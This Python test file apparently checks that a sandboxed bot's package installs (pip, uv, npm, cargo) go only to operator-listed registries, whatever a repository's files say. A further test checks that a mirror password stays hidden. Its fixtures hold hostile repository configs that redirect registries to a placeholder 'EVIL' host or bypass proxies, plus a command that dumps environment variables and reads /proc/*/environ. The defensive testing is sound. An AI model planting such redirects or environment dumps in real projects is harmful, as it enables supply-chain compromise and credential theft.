"""Where set-up commands get packages from: the operator's registries, whatever the repository's files say.

Real package managers in real sandboxes. pip and uv are those that the bot is installed with; npm and cargo take part
where the machine has them.
"""

from __future__ import annotations

import asyncio
import io
import shlex
import shutil
import subprocess
import sys
import zipfile
from collections.abc import AsyncIterator, Mapping
from contextlib import asynccontextmanager
from dataclasses import dataclass
from pathlib import Path

import pytest

from bot.core.environment.registries import SetUpNetwork
from bot.core.model import SandboxId
from bot.registries import Host, SetUpReach
from bot.sandbox.local.bubblewrap import BubblewrapOptions, BubblewrapSandboxes
from tests.contracts.local_sandboxes import SYSTEM_PATH, bwrap, public_directory

pytestmark = pytest.mark.namespaces

A = SandboxId("set-up")
SOON = 60.0  # seconds
PYTHON_HERE = shlex.quote(sys.executable)
PIP = f"{PYTHON_HERE} -m pip download --no-deps -d /tmp/got --retries 0 --timeout 5 --no-cache-dir"
UV = shlex.quote(str(Path(sys.executable).parent / "uv"))
UV_INSTALL = f"{UV} pip install --target /tmp/got --no-cache --python {PYTHON_HERE}"
NPM = "--fetch-retries=0 --fetch-timeout=5000"


def cargo() -> Path | None:
    """The directory of the toolchain that it is in, which a sandbox can be shown."""
    if shutil.which("rustc") is None:
        return None
    done = subprocess.run(["rustc", "--print", "sysroot"], capture_output=True, text=True, check=False)
    found = Path(done.stdout.strip() or "/nowhere")
    return found if (found / "bin" / "cargo").exists() else None


CARGO = cargo()


@pytest.fixture
async def sandboxes() -> AsyncIterator[BubblewrapSandboxes]:
    with public_directory() as directory:
        toolchains = {Path(sys.prefix), Path(sys.base_prefix)} | ({CARGO} if CARGO else set())
        options = BubblewrapOptions(
            directory,
            toolchains=tuple(sorted(path for path in toolchains if not path.is_relative_to("/usr"))),
            path=(f"{sys.base_prefix}/bin",) if shutil.which("python3", path=SYSTEM_PATH) is None else (),
            executable=bwrap(),
            allow_private=True,
        )
        sandboxes = BubblewrapSandboxes(options)
        await sandboxes.create(A)
        yield sandboxes
        await sandboxes.close(A)


@asynccontextmanager
async def registry(pages: Mapping[str, bytes]) -> AsyncIterator[tuple[str, list[bytes]]]:
    """A package index on this host, by path: its host and port, and the heads of all requests that it got."""
    heads: list[bytes] = []

    async def answer(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        head = await reader.read(65_536)
        heads.append(head)
        page = pages.get(head.split(b" ")[1].decode() if b" " in head else "")
        status, body = (b"200 OK", page) if page is not None else (b"404 Not Found", b"")
        kind = b"text/html" if body[:1] == b"<" else b"application/octet-stream"
        writer.write(
            b"HTTP/1.1 %s\r\nContent-Type: %s\r\nContent-Length: %d\r\nConnection: close\r\n\r\n%s"
            % (status, kind, len(body), body)
        )
        await writer.drain()
        writer.close()

    server = await asyncio.start_server(answer, "127.0.0.1", 0)
    async with server:
        yield f"localhost:{server.sockets[0].getsockname()[1]}", heads


@dataclass(frozen=True, slots=True)
class Hostile:
    """What a repository has in it, with `EVIL` for where that leads, and a set-up command that would go there.

    `around`: without the proxy, so that not even a listed host is found.
    """

    name: str
    files: Mapping[str, str]
    command: str
    around: bool = False

    def at(self, host: str) -> Hostile:
        files = {path: text.replace("EVIL", host) for path, text in self.files.items()}
        return Hostile(self.name, files, self.command.replace("EVIL", host), self.around)


INDEX_URL = "http://EVIL/simple"
UV_PROJECT = f"""\
[project]
name = "a"
version = "1"
requires-python = ">=3.8"
dependencies = ["package"]
[[tool.uv.index]]
url = "{INDEX_URL}"
default = true
"""
PACKAGE = '{"dependencies": {"package": "1.0.0"}}'
RESOLVED = '"node_modules/package": {"version": "1.0.0", "resolved": "http://EVIL/package.tgz"}'
LOCK = f'{{"lockfileVersion": 3, "packages": {{"": {PACKAGE}, {RESOLVED}}}}}'
CRATE = '[package]\nname = "a"\nversion = "1.0.0"\n[lib]\npath = "a.rs"\n[dependencies]\npackage = "1"\n'
SOURCE = '[source.crates-io]\nreplace-with = "e"\n[source.e]\nregistry = "sparse+http://EVIL/"\n'
NO_PROXY = "HTTP_PROXY= http_proxy= NO_PROXY='*' no_proxy='*'"

PYTHON = (
    Hostile(
        "pip.conf", {"pip.conf": f"[global]\nindex-url = {INDEX_URL}\n"}, f"PIP_CONFIG_FILE=pip.conf {PIP} package"
    ),
    Hostile("--index-url", {"a.txt": f"--index-url {INDEX_URL}\npackage\n"}, f"{PIP} -r a.txt"),
    Hostile("direct", {"a.txt": "package @ http://EVIL/package-1-py3-none-any.whl\n"}, f"{PIP} -r a.txt"),
    Hostile("environment", {"env.sh": f"export UV_DEFAULT_INDEX={INDEX_URL}\n"}, f". ./env.sh; {UV_INSTALL} package"),
    Hostile("uv.index", {"pyproject.toml": UV_PROJECT}, f"{UV} sync --no-cache --python {PYTHON_HERE}"),
    Hostile("no proxy", {}, f"{NO_PROXY} {PIP} -i {INDEX_URL} package", around=True),
)
NODE = (
    Hostile(".npmrc", {".npmrc": "registry=http://EVIL/\n", "package.json": PACKAGE}, f"npm install {NPM}"),
    Hostile("lock file", {"package.json": PACKAGE, "package-lock.json": LOCK}, f"npm ci {NPM}"),
    Hostile(
        ".npmrc without proxy",
        {".npmrc": "registry=http://EVIL/\nproxy=null\nhttps-proxy=null\nnoproxy=localhost\n", "package.json": PACKAGE},
        f"npm install {NPM}",
        around=True,
    ),
)
RUST = (
    Hostile("cargo", {".cargo/config.toml": SOURCE, "Cargo.toml": CRATE, "a.rs": ""}, f"{CARGO}/bin/cargo fetch"),
    Hostile(
        "cargo without proxy",
        {".cargo/config.toml": f'{SOURCE}[http]\nproxy = ""\n', "Cargo.toml": CRATE, "a.rs": ""},
        f"CARGO_NET_RETRY=0 {NO_PROXY} {CARGO}/bin/cargo fetch",
        around=True,
    ),
)
CASES = (*PYTHON, *(NODE if shutil.which("npm", path=SYSTEM_PATH) else ()), *(RUST if CARGO else ()))


@pytest.mark.parametrize("hostile", CASES, ids=lambda case: case.name)
async def test_a_repository_does_not_choose_the_host(sandboxes: BubblewrapSandboxes, hostile: Hostile) -> None:
    """It would: where its host is on the list, the request arrives there. Where it is not, none does."""
    for is_listed in (True, False):
        async with registry({}) as (host, heads):
            case = hostile.at(host)
            await sandboxes.write(A, {path: (text.encode(), "100644") for path, text in case.files.items()})
            listed = [host if is_listed else "registry.test"]
            done = await sandboxes.run(A, case.command, timeout=SOON, network=listed)
        assert done.exit_code != 0, done.output
        assert bool(heads) == (is_listed and not case.around), done.output


def wheel() -> bytes:
    """Of a project called `package`."""
    files = {
        "package.py": b"",
        "package-1.dist-info/METADATA": b"Metadata-Version: 2.1\nName: package\nVersion: 1\n",
        "package-1.dist-info/WHEEL": b"Wheel-Version: 1.0\nGenerator: a\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    record = "package-1.dist-info/RECORD"
    files[record] = "".join(f"{name},,\n" for name in (*files, record)).encode()
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w") as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return content.getvalue()


WHEEL = "package-1-py3-none-any.whl"
INDEX = {
    "/simple/package/": f'<a href="../../files/{WHEEL}">{WHEEL}</a>'.encode(),
    f"/files/{WHEEL}": wheel(),
}


async def mirrored(host: str, home: Path) -> SetUpNetwork:
    """What is learned from the real tools of an operator whose pip is told of a mirror there."""
    env = {"PATH": "/nowhere", "HOME": str(home), "PIP_INDEX_URL": f"http://operator:hunter22@{host}/simple"}
    return await SetUpReach(("auto",), Host(env, python=sys.executable, seconds=SOON))()


@pytest.mark.parametrize("command", [f"{PIP} package", f"{UV_INSTALL} package"])
async def test_the_operators_mirror_is_used_without_its_password(
    sandboxes: BubblewrapSandboxes, tmp_path: Path, command: str
) -> None:
    async with registry(INDEX) as (host, heads):
        network = await mirrored(host, tmp_path)
        told = "; env; cat /proc/*/environ /proc/*/cmdline | tr '\\0' '\\n'"
        done = await sandboxes.run(A, command, timeout=SOON, network=network.hosts, env=network.environment)
        assert done.exit_code == 0, done.output
        shown = await sandboxes.run(A, f"true{told}", timeout=SOON, network=network.hosts, env=network.environment)
    assert f"PIP_INDEX_URL=http://{host}/simple\n" in shown.output
    assert "hunter22" not in shown.output + done.output
    assert [head.split(b" ")[1] for head in heads][-1] == f"/files/{WHEEL}".encode()
    assert [head for head in heads if b"authorization" in head.lower()] == []
